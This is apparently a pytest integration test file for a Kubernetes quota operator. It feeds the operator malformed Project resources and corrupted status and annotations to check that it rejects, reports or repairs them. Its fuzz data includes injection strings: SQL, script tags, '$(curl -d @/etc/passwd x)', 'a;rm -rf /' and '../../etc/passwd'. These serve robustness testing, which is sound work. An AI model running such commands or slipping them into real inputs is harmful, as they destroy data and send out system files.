"""Bad input against a running operator: a corpus of malformed Projects, garbage in status and in the
operator's own annotations. The operator must never crash, must say what is wrong where the schema
could not, and must go on governing good Projects.

tests/integration/test_project_schema.py checks the schema's messages field by field; this file is
about the running operator's robustness: every malformed Project is thrown at the API server while
the operator runs, then a good Project must still converge.
"""

from __future__ import annotations

import contextlib
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import kubernetes
import pytest
from kubernetes.client import ApiException

from hack.localcluster.kube import Cluster, api_error_message, user_name, wait_for
from hack.localcluster.operator import OperatorProcess, custom, project_manifest

pytestmark = pytest.mark.integration
k8s = kubernetes.client
GROUP, VERSION, PLURAL = "headroom.dev", "v1alpha1", "projects"

Body = dict[str, Any]

INJECTIONS = [
    "'; DROP TABLE projects; --",
    "<script>alert(1)</script>",
    "{{ .Values.secret }}",
    "$(curl -d @/etc/passwd x)",
    "#chan\r\nX-Injected: yes",
    "🔥 on-call ☎ équipe",
    "%s%s%s%n",
    "\u202eevil",
    "a" * 256,
]


@dataclass(frozen=True)
class Case:
    """One malformed Project: how to spoil a valid one, and what must come of it.

    expect: "rejected" (the API server refuses it: 422/400 and `fragment` in its message), "invalid"
    (stored, but the operator reports Ready=False/InvalidSpec with `fragment`), "accepted" (odd but
    valid: it must be governed, or wait for its namespaces, like any other).
    """

    id: str
    spoil: Callable[[Body], Any]
    expect: str
    fragment: str = ""
    strict: bool = False  # create with fieldValidation=Strict, as kubectl does


def _set(path: str, value: Any) -> Callable[[Body], None]:
    def spoil(body: Body) -> None:
        node = body
        *parents, leaf = path.split(".")
        for key in parents:
            node = node.setdefault(key, {}) if isinstance(node, dict) else node[int(key)]
        if isinstance(node, list):
            node[int(leaf)] = value
        else:
            node[leaf] = value

    return spoil


def _delete(path: str) -> Callable[[Body], None]:
    def spoil(body: Body) -> None:
        node = body
        *parents, leaf = path.split(".")
        for key in parents:
            node = node[key]
        del node[leaf]

    return spoil


def _many(*spoils: Callable[[Body], None]) -> Callable[[Body], None]:
    def spoil(body: Body) -> None:
        for each in spoils:
            each(body)

    return spoil


CASES = [
    # --- wrong types
    Case("team-a-number", _set("spec.owner.team", 42), "rejected", "spec.owner.team"),
    Case("namespaces-a-string", _set("spec.namespaces", "payments"), "rejected", "spec.namespaces"),
    Case("headroom-a-string", _set("spec.quota.headroomPercent", "20"), "rejected", "spec.quota.headroomPercent"),
    Case("headroom-a-fraction", _set("spec.quota.headroomPercent", 20.5), "rejected", "spec.quota.headroomPercent"),
    Case("urgent-yes", _set("spec.alerts.urgentWhenFull", "yes"), "rejected", "spec.alerts.urgentWhenFull"),
    Case("thresholds-an-object", _set("spec.alerts.thresholds", {"warn": 80}), "rejected", "spec.alerts.thresholds"),
    Case(
        "requested-a-list",
        _set("spec.namespaces.0.requested", ["requests.cpu", "4"]),
        "rejected",
        "spec.namespaces[0].requested",
    ),
    # --- out of range, malformed values
    Case("headroom-negative", _set("spec.quota.headroomPercent", -1), "rejected", "spec.quota.headroomPercent"),
    Case("headroom-huge", _set("spec.quota.headroomPercent", 10**12), "rejected", "spec.quota.headroomPercent"),
    Case("minimum-negative", _set("spec.quota.minimum", {"requests.cpu": "-1"}), "rejected", "non-negative"),
    Case("minimum-prose", _set("spec.quota.minimum", {"requests.cpu": "lots"}), "rejected", "spec.quota.minimum"),
    Case("lookback-forever", _set("spec.quota.lookback", "forever"), "rejected", "spec.quota.lookback"),
    Case("lookback-zero", _set("spec.quota.lookback", "0d"), "rejected", "spec.quota.lookback"),
    Case("thresholds-descending", _set("spec.alerts.thresholds", [90, 80]), "rejected", "strictly increasing"),
    Case("threshold-zero", _set("spec.alerts.thresholds", [0]), "rejected", "spec.alerts.thresholds"),
    Case("hysteresis-51", _set("spec.alerts.hysteresis", 51), "rejected", "spec.alerts.hysteresis"),
    Case("cooldown-soon", _set("spec.alerts.cooldown", "soon"), "rejected", "spec.alerts.cooldown"),
    Case(
        "defaults-request-above-limit",
        _set("spec.defaults", {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}}),
        "rejected",
        "at most the default limit",
    ),
    Case(
        "business-hours-prose",
        _set("spec.owner.businessHours", "whenever we feel like it"),
        "rejected",
        "spec.owner.businessHours",
    ),
    Case("holiday-30-february", _set("spec.owner.holidays", ["2026-02-30"]), "rejected", "spec.owner.holidays"),
    Case("enforcement-maybe", _set("spec.quota.enforcement", "Maybe"), "rejected", "spec.quota.enforcement"),
    Case("reason-501-chars", _set("spec.reason", "r" * 501), "rejected", "spec.reason"),
    # --- unknown resource names, bad names
    Case("minimum-gpu", _set("spec.quota.minimum", {"nvidia.com/gpu": "1"}), "rejected", "spec.quota.minimum keys"),
    # Extended resources are quota keys only as requests.<name>: a quota refuses limits.nvidia.com/gpu.
    Case(
        "resources-gpu-limits",
        _set("spec.quota.resources", ["limits.nvidia.com/gpu"]),
        "rejected",
        "spec.quota.resources",
    ),
    Case("resources-empty", _set("spec.quota.resources", []), "rejected", "spec.quota.resources"),
    Case("team-unicode", _set("spec.owner.team", "équipe-paiements"), "rejected", "spec.owner.team"),
    Case("namespace-injection", _set("spec.namespaces.0.name", "a;rm -rf /"), "rejected", "spec.namespaces"),
    Case("namespace-uppercase", _set("spec.namespaces.0.name", "Payments"), "rejected", "spec.namespaces"),
    Case("namespace-64-chars", _set("spec.namespaces.0.name", "n" * 64), "rejected", "spec.namespaces"),
    Case(
        "namespace-twice",
        _set("spec.namespaces", [{"name": "twice"}, {"name": "twice"}]),
        "rejected",
        "Duplicate value",
    ),
    Case(
        "a-thousand-namespaces",
        _set("spec.namespaces", [{"name": f"ns-{i}"} for i in range(1000)]),
        "rejected",
        "spec.namespaces",
    ),
    Case("no-namespaces", _set("spec.namespaces", []), "rejected", "spec.namespaces"),
    Case("no-owner", _delete("spec.owner"), "rejected", "spec.owner"),
    Case(
        "secret-path-traversal",
        _set("spec.alerts.webhookSecretRef", {"name": "../../etc/passwd"}),
        "rejected",
        "spec.alerts.webhookSecretRef.name",
    ),
    Case("contacts-21", _set("spec.owner.contacts", [f"#c{i}" for i in range(21)]), "rejected", "spec.owner.contacts"),
    Case("contact-257-chars", _set("spec.owner.contacts", ["x" * 257]), "rejected", "spec.owner.contacts"),
    Case("contact-empty", _set("spec.owner.contacts", [""]), "rejected", "spec.owner.contacts"),
    Case(
        "unknown-keys-strict",
        _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
        "rejected",
        "unknown field",
        strict=True,
    ),
    # --- valid for the schema, not for the operator: Ready=False, InvalidSpec, the field named
    Case(
        "minimum-1e40",
        _set("spec.quota.minimum", {"requests.cpu": "1e40"}),
        "invalid",
        "spec.quota.minimum.requests.cpu",
    ),
    Case(
        "requested-1e40",
        _set("spec.namespaces.0.requested", {"requests.cpu": "1e40"}),
        "invalid",
        "spec.namespaces[0].requested.requests.cpu",
    ),
    Case(
        "default-limit-1e40",
        _set("spec.defaults", {"limits": {"memory": "1e40"}}),
        "invalid",
        "spec.defaults.limits.memory",
    ),
    Case("lookback-2-billion-years", _set("spec.quota.lookback", "99999999999w"), "invalid", "spec.quota.lookback"),
    Case("cooldown-zero", _set("spec.alerts.cooldown", "0s"), "invalid", "spec.alerts.cooldown"),
    # --- odd but valid: governed (or waiting for namespaces) like any other Project
    Case(
        "unknown-keys-pruned",
        _many(_set("spec.owner.favouriteColour", "blue"), _set("spec.extra", {"a": 1})),
        "accepted",
    ),
    Case("contacts-injection-and-unicode", _set("spec.owner.contacts", INJECTIONS), "accepted"),
    Case(
        "annotations-garbage",
        _set(
            "metadata.annotations",
            {
                "headroom.dev/approved-change": "sha256:" + "z" * 5000,
                "headroom.dev/approved-by": "rëviewer 🚀 <admin>",
                "headroom.dev/requested-by": "rëviewer 🚀 <admin>",
            },
        ),
        "accepted",
    ),
    # --- claims a team must not make: held (Waiting), never governed
    Case(
        "claims-the-system-namespaces",
        _set(
            "spec.namespaces",
            [{"name": n, "requested": {"pods": "1"}} for n in ("kube-system", "kube-public", "default")],
        ),
        "accepted",
    ),
    Case("reason-injection", _set("spec.reason", INJECTIONS[0] + INJECTIONS[4]), "accepted"),
    Case(
        "pods-beyond-int64",
        _set("spec.quota.minimum", {"pods": "9223372036854775808"}),
        "rejected",
        "up to 9223372036854775807",
    ),
    Case(
        "five-hundred-missing-namespaces",
        _set("spec.namespaces", [{"name": f"gone-{i}"} for i in range(500)]),
        "accepted",
    ),
    Case("unknown-time-zone", _set("spec.owner.businessHours", "Mon-Fri 09:00-17:00 Mars/Olympus_Mons"), "accepted"),
]


def _condition(body: Body, kind: str) -> dict[str, Any]:
    return next((c for c in (body.get("status") or {}).get("conditions") or [] if c.get("type") == kind), {})


@pytest.fixture
def created(admin: k8s.ApiClient) -> Iterator[list[str]]:
    names: list[str] = []
    yield names
    for name in names:
        with contextlib.suppress(ApiException):
            custom(admin).delete_cluster_custom_object(GROUP, VERSION, PLURAL, name)


def _empty_history(path: Path) -> list[str]:
    path.write_text("time,namespace,resource,value\n")
    return ["--history-source=file", f"--history-file={path}"]


GITOPS_USER = "system:serviceaccount:flux-system:kustomize-controller"


def _gitops_writer(cluster: Cluster, admin: k8s.ApiClient) -> kubernetes.client.CustomObjectsApi:
    """Garbage sign-off annotations can only come from Git: the sign-off policy refuses them from anyone else."""
    rbac = k8s.RbacAuthorizationV1Api(admin)
    with contextlib.suppress(ApiException):
        rbac.create_cluster_role(
            k8s.V1ClusterRole(
                metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
                rules=[k8s.V1PolicyRule(api_groups=[GROUP], resources=[PLURAL], verbs=["create", "get", "patch"])],
            )
        )
        rbac.create_cluster_role_binding(
            k8s.V1ClusterRoleBinding(
                metadata=k8s.V1ObjectMeta(name="test-gitops-projects"),
                role_ref=k8s.V1RoleRef(
                    api_group="rbac.authorization.k8s.io", kind="ClusterRole", name="test-gitops-projects"
                ),
                subjects=[k8s.RbacV1Subject(kind="User", name=GITOPS_USER, api_group="rbac.authorization.k8s.io")],
            )
        )
    return custom(cluster.impersonate(GITOPS_USER))


def test_a_corpus_of_malformed_projects_is_refused_or_reported_and_the_operator_survives(
    cluster: Cluster,
    admin: k8s.ApiClient,
    namespace: str,
    tmp_path: Path,
    created: list[str],
    approval_policy: None,
    start_operator: Callable[..., OperatorProcess],
) -> None:
    assert len(CASES) >= 30
    operator = start_operator(*_empty_history(tmp_path / "h.csv"))
    api = custom(admin)
    gitops = _gitops_writer(cluster, admin)
    problems: list[str] = []
    stored: dict[str, Case] = {}

    for case in CASES:
        name = f"bad-{case.id}"[:50] + f"-{uuid.uuid4().hex[:4]}"
        body = project_manifest(name, [f"missing-{uuid.uuid4().hex[:8]}"])
        if case.id == "unknown-keys-pruned":
            body["spec"]["namespaces"] = [{"name": namespace}]  # type: ignore[index]  # one that gets governed
        case.spoil(body)
        try:
            writer = gitops if case.id == "annotations-garbage" else api
            writer.create_cluster_custom_object(
                GROUP, VERSION, PLURAL, body, **({"field_validation": "Strict"} if case.strict else {})
            )
        except ApiException as exc:
            message = api_error_message(exc)
            print(f"{case.id}: HTTP {exc.status}: {message[:160]}")
            if case.expect != "rejected":
                problems.append(f"{case.id}: refused ({exc.status}: {message[:200]}), expected {case.expect}")
            elif exc.status not in (400, 422) or case.fragment not in message or len(message) > 4000:
                problems.append(f"{case.id}: HTTP {exc.status} without {case.fragment!r}: {message[:300]}")
            continue
        created.append(name)
        stored[name] = case
        if case.expect == "rejected":
            problems.append(f"{case.id}: stored, expected the API server to refuse it")

    def settled() -> bool:
        for name, case in stored.items():
            body = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name)
            ready = _condition(body, "Ready")
            if not ready:
                return False
            if case.expect == "invalid" and ready.get("reason") != "InvalidSpec":
                return False
        return True

    started = time.monotonic()
    wait_for(settled, 90, "every stored Project to have a Ready condition", interval=1)
    print(f"{len(stored)} stored malformed Projects had their status after {time.monotonic() - started:.1f}s")
    for name, case in stored.items():
        body = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name)
        ready = _condition(body, "Ready")
        if case.expect == "invalid":
            if ready.get("status") != "False" or case.fragment not in ready.get("message", ""):
                problems.append(f"{case.id}: Ready {ready}, expected InvalidSpec naming {case.fragment!r}")
            if (body.get("status") or {}).get("phase") != "Invalid":
                problems.append(f"{case.id}: phase {(body.get('status') or {}).get('phase')}, expected Invalid")
        elif case.expect == "accepted" and ready.get("reason") not in ("Governed", "Waiting"):
            problems.append(f"{case.id}: Ready {ready}, expected Governed or Waiting")
    assert not problems, "\n".join(problems)
    for system in ("kube-system", "kube-public", "default"):
        assert not k8s.CoreV1Api(admin).list_namespaced_resource_quota(system).items, f"a quota in {system}"

    # Nothing above made a reconcile fail, and a good Project still converges.
    assert operator.running()
    assert operator.metric("headroom_reconcile_errors_total") == 0
    core = k8s.CoreV1Api(admin)
    good_ns = f"good-{uuid.uuid4().hex[:6]}"
    core.create_namespace(k8s.V1Namespace(metadata=k8s.V1ObjectMeta(name=good_ns)))
    try:
        good = f"good-{uuid.uuid4().hex[:6]}"
        api.create_cluster_custom_object(
            GROUP,
            VERSION,
            PLURAL,
            project_manifest(good, [good_ns], quota={"resources": ["pods"], "minimum": {"pods": "7"}}),
        )
        created.append(good)
        wait_for(
            lambda: (
                (core.read_namespaced_resource_quota("headroom", good_ns).metadata.annotations or {}).get(
                    "headroom.dev/state"
                )
                == "governed"
            ),
            60,
            "the good Project's quota",
        )
        assert core.read_namespaced_resource_quota("headroom", good_ns).spec.hard == {"pods": "7"}
        wait_for(
            lambda: (
                _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, good), "Ready").get("status") == "True"
            ),
            30,
            "the good Project Ready",
        )
    finally:
        core.delete_namespace(good_ns)
    assert operator.running()


def test_garbage_in_status_and_in_its_own_annotations_is_repaired(
    admin: k8s.ApiClient,
    namespace: str,
    tmp_path: Path,
    created: list[str],
    start_operator: Callable[..., OperatorProcess],
) -> None:
    """Someone writes nonsense into a Project's status and into the annotations of Headroom's own
    quota: the operator keeps running, repairs what it owns, and keeps the governed values."""
    operator = start_operator(*_empty_history(tmp_path / "h.csv"))
    api, core = custom(admin), k8s.CoreV1Api(admin)
    name = f"garbage-{uuid.uuid4().hex[:6]}"
    api.create_cluster_custom_object(
        GROUP,
        VERSION,
        PLURAL,
        project_manifest(
            name,
            [namespace],
            quota={"resources": ["requests.cpu", "pods"], "minimum": {"requests.cpu": "2", "pods": "10"}},
        ),
    )
    created.append(name)

    def quota() -> Any:
        return core.read_namespaced_resource_quota("headroom", namespace)

    wait_for(lambda: (quota().metadata.annotations or {}).get("headroom.dev/state") == "governed", 60, "governed")
    wait_for(
        lambda: (
            _condition(api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name), "Ready").get("status") == "True"
        ),
        30,
        "Ready",
    )

    api.patch_cluster_custom_object_status(
        GROUP,
        VERSION,
        PLURAL,
        name,
        {
            "status": {
                "phase": "Exploded",
                "alerts": [{"threshold": "eighty", "state": 7}, {"namespace": namespace}],
                "history": [{"id": 5, "diff": "not a list"}],
                "lastAppliedChange": {"id": "sha256:never-applied", "appliedAt": "last tuesday"},
                "pendingChange": {
                    "id": "sha256:nothing",
                    "since": "yesterday",
                    "diff": [{"namespace": "x", "to": "∞"}],
                },
                "summary": {"namespaces": 3, "highestUtilization": "∞"},
                "somethingElse": {"deeply": [{"nested": "junk"}]},
            }
        },
    )
    core.patch_namespaced_resource_quota(
        "headroom",
        namespace,
        {"metadata": {"annotations": {"headroom.dev/applied-change": "[]", "headroom.dev/governed-hard": "{not json"}}},
    )

    def repaired() -> bool:
        status = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name).get("status") or {}
        annotations = quota().metadata.annotations or {}
        return (
            status.get("phase") == "Ready"
            and "pendingChange" not in status
            and annotations.get("headroom.dev/governed-hard") == '{"pods":"10","requests.cpu":"2"}'
        )

    wait_for(repaired, 60, "the status and the annotations to be repaired")
    assert quota().spec.hard == {"requests.cpu": "2", "pods": "10"}
    assert operator.running()
    assert operator.metric("headroom_reconcile_errors_total") == 0

    # Still governing: a decrease applies as usual.
    body = api.get_cluster_custom_object(GROUP, VERSION, PLURAL, name)
    body["spec"]["namespaces"][0]["requested"] = {"pods": "8"}
    api.patch_cluster_custom_object(
        GROUP,
        VERSION,
        PLURAL,
        name,
        {
            "metadata": {"annotations": {"headroom.dev/requested-by": user_name(admin)}},
            "spec": {"namespaces": body["spec"]["namespaces"]},
        },
    )
    wait_for(lambda: quota().spec.hard.get("pods") == "8", 30, "the decrease")


def test_a_hand_edited_governed_annotation_does_not_lower_the_quota(
    admin: k8s.ApiClient,
    namespace: str,
    tmp_path: Path,
    created: list[str],
    start_operator: Callable[..., OperatorProcess],
) -> None:
    start_operator(*_empty_history(tmp_path / "h.csv"))
    api, core = custom(admin), k8s.CoreV1Api(admin)
    name = f"annotated-{uuid.uuid4().hex[:6]}"
    api.create_cluster_custom_object(
        GROUP,
        VERSION,
        PLURAL,
        project_manifest(
            name,
            [namespace],
            quota={"resources": ["requests.cpu", "pods"], "minimum": {"requests.cpu": "2", "pods": "10"}},
        ),
    )
    created.append(name)

    def quota() -> Any:
        return core.read_namespaced_resource_quota("headroom", namespace)

    wait_for(lambda: (quota().metadata.annotations or {}).get("headroom.dev/state") == "governed", 60, "governed")
    core.patch_namespaced_resource_quota(
        "headroom",
        namespace,
        {"metadata": {"annotations": {"headroom.dev/governed-hard": '{"pods":"1","requests.cpu":"100m"}'}}},
        field_manager="kubectl-edit",
    )
    time.sleep(6)
    assert quota().spec.hard == {"requests.cpu": "2", "pods": "10"}
